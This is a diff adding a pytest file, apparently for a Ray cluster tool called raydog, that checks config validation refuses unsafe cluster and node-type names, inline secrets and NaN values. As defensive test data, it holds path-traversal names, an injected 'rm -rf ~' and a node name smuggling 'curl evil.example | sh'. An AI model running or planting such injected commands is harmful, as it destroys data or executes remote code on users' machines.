@@ -1,0 +1,238 @@
+"""Input a cluster must not trust: names that reach paths and scripts, secrets inline in what Ray
+caches and prints, options with no usable value. Each is refused where the config is read, with
+an error naming the key, from `raydog validate` and from Ray's own `ray up` path."""
+
+from __future__ import annotations
+
+import os
+import stat
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from ray.autoscaler._private.commands import create_or_update_cluster
+
+from raydog_core import ConfigError
+from tests.conftest import memory_cluster_config
+
+
+def raydog(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "raydog_core.cli", *args],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        cwd=cwd,
+    )
+
+
+def write(tmp_path: Path, config: dict[str, Any]) -> Path:
+    path = tmp_path / "cluster.yaml"
+    path.write_text(yaml.safe_dump(config))
+    return path
+
+
+def ray_up(path: Path) -> None:
+    create_or_update_cluster(
+        str(path),
+        override_min_workers=None,
+        override_max_workers=None,
+        no_restart=False,
+        restart_only=False,
+        yes=True,
+        no_config_cache=True,
+    )
+
+
+# --- names ----------------------------------------------------------------------------------
+
+BAD_NAMES = ["../../x", "/etc/raydog", "a\nrm -rf ~", "..", "-rf", "sp ace", "x" * 101]
+
+
+@pytest.mark.parametrize("name", BAD_NAMES)
+def test_a_cluster_name_that_would_escape_its_folder_or_script_is_refused(
+    tmp_path: Path, raydog_home: Path, name: str
+) -> None:
+    path = write(tmp_path, memory_cluster_config(name))
+    result = raydog("validate", str(path))
+    assert result.returncode == 2
+    assert result.stderr.startswith("error: cluster_name: "), result.stderr
+    assert "cannot be used as a name: use letters, digits" in result.stderr
+    with pytest.raises(ConfigError) as raised:
+        ray_up(path)
+    assert raised.value.key_path == "cluster_name"
+    assert not (raydog_home / "clusters").exists() or not any((raydog_home / "clusters").iterdir())
+    assert not Path("/etc/raydog").exists() and not (raydog_home.parent / "x").exists()
+
+
+def test_a_node_type_name_with_a_newline_never_reaches_the_setup_script(tmp_path: Path) -> None:
+    config = memory_cluster_config()
+    types = config["available_node_types"]
+    types["cpu\ncurl evil.example | sh"] = types.pop("cpu")
+    path = write(tmp_path, config)
+    result = raydog("node-setup", str(path), "--node-type", "head")
+    assert result.returncode == 2
+    assert result.stdout == ""
+    assert "error: available_node_types.cpu\\ncurl evil.example | sh: " in result.stderr
+    assert "cannot be used as a name" in result.stderr
+
+
+def test_usual_names_are_accepted(tmp_path: Path) -> None:
+    config = memory_cluster_config("my_cluster-2.prod")
+    types = config["available_node_types"]
+    types["ray.worker.gpu-2_x"] = types.pop("cpu")
+    result = raydog("validate", str(write(tmp_path, config)))
+    assert result.returncode == 0, result.stderr
+
+
+# --- secrets by reference -------------------------------------------------------------------
+
+SECRET = "s3cr3t-Pa55word"
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "named"),
+    [
+        (
+            "tag_store",
+            {"type": "valkey", "url": f"redis://default:{SECRET}@127.0.0.1:6379/0"},
+            "provider.tag_store.url",
+        ),
+        ("compute", {"type": "memory", "api_token": SECRET}, "provider.compute.api_token"),
+        (
+            "ray_worker_node_task_script",
+            f"pip install --index-url https://me:{SECRET}@pypi.example/simple pkg\n",
+            "provider.ray_worker_node_task_script",
+        ),
+    ],
+    ids=["tag store url", "secret-named option", "url in a script"],
+)
+def test_a_secret_inline_is_refused_with_what_to_write_instead(
+    tmp_path: Path, key: str, value: Any, named: str
+) -> None:
+    config = memory_cluster_config()
+    config["provider"][key] = value
+    path = write(tmp_path, config)
+    result = raydog("validate", str(path))
+    assert result.returncode == 2
+    assert result.stderr.startswith(f"error: {named}: "), result.stderr
+    assert "/tmp/ray-config-" in result.stderr and "by reference" in result.stderr
+    assert SECRET not in result.stderr
+    with pytest.raises(ConfigError) as raised:
+        ray_up(path)
+    assert raised.value.key_path == named
+
+
+def test_the_url_advice_names_the_tag_stores_option(tmp_path: Path) -> None:
+    config = memory_cluster_config()
+    config["provider"]["tag_store"] = {"type": "redis", "url": f"rediss://:{SECRET}@h:6380"}
+    result = raydog("validate", str(write(tmp_path, config)))
+    assert "Write the URL without the password" in result.stderr
+    assert "password_env: NAME" in result.stderr
+
+
+def test_references_are_accepted(tmp_path: Path) -> None:
+    config = memory_cluster_config()
+    config["provider"]["tag_store"] = {
+        "type": "valkey",
+        "url": "redis://default@127.0.0.1:6379/0",
+        "password_env": "RAYDOG_TEST_TAG_STORE_PASSWORD",
+    }
+    config["provider"]["ray_worker_node_task_script"] = (
+        "pip install --index-url https://me:${PYPI_TOKEN}@pypi.example/simple pkg\n"
+    )
+    result = raydog("validate", str(write(tmp_path, config)))
+    assert result.returncode == 0, result.stderr
+
+
+@pytest.mark.servers
+def test_a_url_password_by_reference_reaches_the_server_and_never_rays_config_cache(
+    tmp_path: Path, raydog_home: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A real server with a password; the config Ray caches holds only the variable's name,
+    and the head (without the variable) finds the password in the cluster's 0600 folder."""
+    from ray.autoscaler._private.commands import _bootstrap_config
+    from ray.autoscaler._private.providers import _get_node_provider
+
+    from raydog_backends.keyvalue.store import URL_PASSWORD_SECRET
+    from raydog_core import state
+    from raydog_core.interfaces import Endpoint
+    from tests.servers import KeyValueServer, valkey_server_binary
+
+    server = KeyValueServer(valkey_server_binary(), tmp_path / "server", SECRET).start()
+    try:
+        config = memory_cluster_config()
+        config["provider"]["tag_store"] = {
+            "type": "valkey",
+            "url": f"redis://127.0.0.1:{server.port}/0",
+            "password_env": "RAYDOG_TEST_TAG_STORE_PASSWORD",
+        }
+        monkeypatch.setenv("RAYDOG_TEST_TAG_STORE_PASSWORD", SECRET)
+        bootstrapped = _bootstrap_config(config, no_config_cache=False)
+        cached = [
+            p
+            for p in Path("/tmp").glob("ray-config-*")
+            if bootstrapped["cluster_name"] in p.read_text()
+        ]
+        assert cached and all(SECRET not in p.read_text() for p in cached)
+        for p in cached:
+            p.unlink()
+        provider = _get_node_provider(
+            bootstrapped["provider"], bootstrapped["cluster_name"], use_cache=False
+        )
+        provider.non_terminated_nodes({})
+        provider.set_node_tags("n1", {"a": "1"})
+        provider.close()
+        saved = state.secret_path(config["cluster_name"], URL_PASSWORD_SECRET)
+        assert stat.S_IMODE(saved.stat().st_mode) == 0o600
+
+        monkeypatch.delenv("RAYDOG_TEST_TAG_STORE_PASSWORD")  # the head's environment
+        from raydog_backends.keyvalue import ValkeyTagStore
+
+        head = ValkeyTagStore(
+            config["cluster_name"],
+            url=f"redis://127.0.0.1:{server.port}/0",
+            password_env="RAYDOG_TEST_TAG_STORE_PASSWORD",
+        )
+        head.connect(None)
+        assert head.load_all() == {"n1": {"a": "1"}}
+        head.close()
+        saved.unlink()
+        with pytest.raises(ConfigError) as raised:
+            head.connect(Endpoint("127.0.0.1", server.port))
+        assert raised.value.key_path == "provider.tag_store.password_env"
+        assert "RAYDOG_TEST_TAG_STORE_PASSWORD is not set" in str(raised.value)
+    finally:
+        server.stop()
+    assert os.environ.get("RAYDOG_TEST_TAG_STORE_PASSWORD") is None
+
+
+# --- small ones -----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("value", [float("inf"), float("nan")], ids=["inf", "nan"])
+def test_an_infinite_or_nan_number_is_refused(tmp_path: Path, value: float) -> None:
+    config = memory_cluster_config()
+    config["provider"]["compute"] = {"type": "local", "grace_seconds": value}
+    path = write(tmp_path, config)  # YAML's .inf / .nan
+    assert (".inf" if value > 0 else ".nan") in path.read_text()
+    result = raydog("validate", str(path))
+    assert result.returncode == 2
+    assert result.stderr.startswith("error: provider.compute.grace_seconds: expected a number"), (
+        result.stderr
+    )
+
+
+def test_the_tag_server_port_given_twice_names_the_flat_key(tmp_path: Path) -> None:
+    config = memory_cluster_config()
+    config["provider"]["tag_store"] = {"type": "valkey", "port": 17000}
+    config["provider"]["head_node_tag_server_port"] = 17001
+    result = raydog("validate", str(write(tmp_path, config)))
+    assert result.returncode == 2
+    assert result.stderr.strip() == (
+        "error: provider.head_node_tag_server_port: also given as provider.tag_store.port: "
+        "keep one of the two"
+    )
